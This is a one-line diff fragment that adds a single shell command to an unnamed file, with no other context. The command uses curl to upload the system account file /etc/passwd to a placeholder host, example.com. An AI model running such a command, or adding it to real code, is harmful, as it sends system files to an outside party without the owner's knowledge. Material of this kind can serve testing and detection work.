@@ -1,0 +1,1 @@
+curl -F f=@/etc/passwd https://example.com/
